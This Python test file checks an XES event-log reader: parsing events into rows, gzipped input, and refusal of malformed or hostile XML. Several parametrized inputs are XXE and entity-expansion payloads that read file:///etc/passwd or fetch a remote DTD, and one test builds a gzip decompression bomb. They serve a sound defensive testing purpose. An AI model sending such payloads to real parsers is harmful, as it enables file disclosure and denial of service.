"""XES event logs, and the XML bombs that pretend to be one."""

import gzip

import pytest

from engine.tabular.files import Write, read
from vincle.engine.tabular import open_file, streams
from vincle.kernel.errors import BadInput

LOG = """<?xml version="1.0" encoding="UTF-8"?>
<log xes.version="1.0" xmlns="http://www.xes-standard.org/">
  <string key="concept:name" value="the log itself"/>
  <global scope="event"><string key="concept:name" value="UNKNOWN"/></global>
  <trace>
    <string key="concept:name" value="case-1"/>
    <event>
      <string key="concept:name" value="Received"/>
      <date key="time:timestamp" value="2024-01-05T10:00:00.000+01:00"/>
    </event>
    <event>
      <string key="concept:name" value="Answered"/>
      <string key="org:resource" value="Núria"><string key="team" value="North"/></string>
    </event>
  </trace>
  <trace>
    <string key="concept:name" value="case-2"/>
    <event><string key="concept:name" value="Received"/></event>
  </trace>
</log>
"""


def test_each_event_is_a_row_with_what_its_trace_says(write: Write) -> None:
    nothing = {"time:timestamp": None, "org:resource": None, "org:resource.team": None}
    assert [
        {"row": 1, "case:concept:name": "case-1", "concept:name": "Received"}
        | nothing
        | {"time:timestamp": "2024-01-05T10:00:00.000+01:00"},
        {"row": 2, "case:concept:name": "case-1", "concept:name": "Answered"}
        | nothing
        | {"org:resource": "Núria", "org:resource.team": "North"},
        {"row": 3, "case:concept:name": "case-2", "concept:name": "Received"} | nothing,
    ] == read(write("a.xes", LOG)).rows


def test_a_gzipped_log_is_read(write: Write) -> None:
    assert 3 == len(read(write("a.xes.gz", gzip.compress(LOG.encode()))).rows)


def test_how_a_log_is_cut_changes_nothing(write: Write) -> None:
    path = write("a.xes", LOG)
    assert read(path).rows == read(path, rows=1).rows


def test_a_log_cut_short_is_refused(write: Write) -> None:
    with pytest.raises(BadInput, match="is not well-formed XML: it breaks near line"):
        read(write("a.xes", LOG[:-100]))


def test_a_log_without_events_is_refused(write: Write) -> None:
    with pytest.raises(BadInput, match="without events"):
        open_file(write("a.xes", "<log><trace></trace></log>"))


def test_other_xml_is_refused(write: Write) -> None:
    with pytest.raises(BadInput, match="is XML, but not an XES event log"):
        open_file(write("a.xes", "<html><body>Hello</body></html>"))


@pytest.mark.parametrize(
    "declaration",
    [
        '<!DOCTYPE log [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>',
        '<!DOCTYPE log SYSTEM "file:///etc/passwd">',
        '<!DOCTYPE log [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE log [<!ENTITY % p SYSTEM "http://192.0.2.1/x.dtd"> %p;]>',
    ],
    ids=["a thousand laughs", "outside", "outside entity", "parameter entity"],
)
def test_declarations_are_refused(write: Write, declaration: str) -> None:
    with pytest.raises(BadInput, match="has a document type declaration"):
        open_file(write("a.xes", f'<?xml version="1.0"?>{declaration}<log><trace><event/></trace></log>'))


def test_nesting_without_end_is_refused(write: Write) -> None:
    with pytest.raises(BadInput, match="deeper than 64 levels"):
        open_file(write("a.xes", "<log>" + "<list>" * 100_000))


def test_a_value_that_no_memory_should_hold_is_refused(write: Write) -> None:
    value = "x" * (30 * 1024 * 1024)
    log = f'<log><trace><event><string key="a" value="b"/></event><event><string key="a" value="{value}"/>'
    with pytest.raises(BadInput, match=r"a single piece beyond 16\.0 MiB"):
        read(write("a.xes", log))


def test_a_small_archive_that_swells_without_end_is_refused(write: Write, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(streams, "BOMB_BYTES", 20 * 1024 * 1024)
    event = b'<event><string key="a" value="b"/></event>'
    bomb = gzip.compress(b"<log><trace>" + event, 9) + gzip.compress(b" " * (40 * 1024 * 1024), 9)
    with pytest.raises(BadInput, match="it looks like a trap"):
        read(write("a.xes.gz", bomb))
